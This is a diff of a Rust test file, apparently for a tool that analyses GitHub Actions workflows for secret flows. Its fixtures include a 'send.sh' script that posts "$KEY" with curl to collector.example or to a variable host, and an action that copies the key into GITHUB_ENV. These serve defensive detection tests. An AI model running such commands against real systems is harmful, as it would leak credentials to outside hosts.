@@ -10,12 +10,16 @@ struct One(&'static str);
 
 impl LocalFiles for One {
     fn read(&self, path: &str) -> LocalFile {
-        if path == "send.sh" { LocalFile::Text(self.0.to_owned()) } else { LocalFile::Absent }
+        if path == "send.sh" { LocalFile::Text(self.0.into()) } else { LocalFile::Absent }
     }
 }
 
 /// Everything that an analysis says, in a thread of its own, which knows what it is given.
-fn analysed(text: &str, known: Option<&Arc<KnownSteps>>, local: &(dyn LocalFiles + Sync)) -> String {
+pub(super) fn analysed(
+    text: &str,
+    known: Option<&Arc<KnownSteps>>,
+    local: &(dyn LocalFiles + Sync),
+) -> String {
     let analysis = || {
         if let Some(known) = known {
             Arc::clone(known).use_in_this_thread();
@@ -28,7 +32,7 @@ fn analysed(text: &str, known: Option<&Arc<KnownSteps>>, local: &(dyn LocalFiles
     })
 }
 
-fn count(known: &KnownSteps) -> usize {
+pub(super) fn count(known: &KnownSteps) -> usize {
     known.shards.iter().map(|shard| shard.lock().unwrap().steps.values().map(Vec::len).sum::<usize>()).sum()
 }
 
@@ -99,8 +103,8 @@ struct Scripts;
 impl LocalFiles for Scripts {
     fn read(&self, path: &str) -> LocalFile {
         LocalFile::Text(match path {
-            "send.sh" => "curl https://collector.example/ -d \"$KEY\"\n".to_owned(),
-            _ => "true\n".to_owned(),
+            "send.sh" => "curl https://collector.example/ -d \"$KEY\"\n".into(),
+            _ => "true\n".into(),
         })
     }
 }
@@ -149,8 +153,8 @@ struct Called(String);
 impl LocalFiles for Called {
     fn read(&self, path: &str) -> LocalFile {
         match path {
-            ".github/workflows/called.yml" => LocalFile::Text(self.0.clone()),
-            "send.sh" => LocalFile::Text("curl \"https://$TO/\" -d \"$KEY\"\n".to_owned()),
+            ".github/workflows/called.yml" => LocalFile::Text(self.0.as_str().into()),
+            "send.sh" => LocalFile::Text("curl \"https://$TO/\" -d \"$KEY\"\n".into()),
             _ => LocalFile::Absent,
         }
     }
@@ -216,7 +220,7 @@ struct Action;
 impl LocalFiles for Action {
     fn read(&self, path: &str) -> LocalFile {
         let text = "runs:\n  using: composite\n  steps:\n    - run: echo \"OTHER=$KEY\" >> $GITHUB_ENV\n      shell: bash\n";
-        if path == "act/action.yml" { LocalFile::Text(text.to_owned()) } else { LocalFile::Absent }
+        if path == "act/action.yml" { LocalFile::Text(text.into()) } else { LocalFile::Absent }
     }
 }
 
@@ -294,6 +298,7 @@ fn anchors_are_told_from_ampersands_of_scripts() {
 fn full_shards_start_again() {
     let known = KnownSteps::new();
     let followed = |length: usize| Followed {
+        output: Value::empty(),
         home: 0,
         start: 0,
         met: Vec::new(),
